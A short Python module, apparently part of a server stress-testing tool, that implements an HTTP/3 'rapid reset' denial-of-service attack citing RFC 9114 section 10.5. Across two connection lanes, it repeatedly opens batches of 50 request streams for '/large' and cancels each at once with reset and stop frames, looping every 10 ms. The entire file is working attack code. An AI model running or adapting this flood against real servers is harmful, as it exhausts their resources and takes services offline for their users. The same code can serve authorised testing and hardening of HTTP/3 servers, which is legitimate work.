"""Requests that are reset at once (RFC 9114, 10.5)."""

import asyncio

from wire.http3 import ask, http3


async def attack(target):
    async def lane(number):
        async with http3(target, target.source(number)) as it:
            while it and target.goes_on():
                for _ in range(50):
                    stream = it.stream()
                    it.put(stream, ask(path=b"/large"))
                    it._quic.reset_stream(stream, 0x10c)
                    it._quic.stop_stream(stream, 0x10c)
                it.transmit()
                await asyncio.sleep(0.01)
                it.check()

    await target.lanes(2, lane)
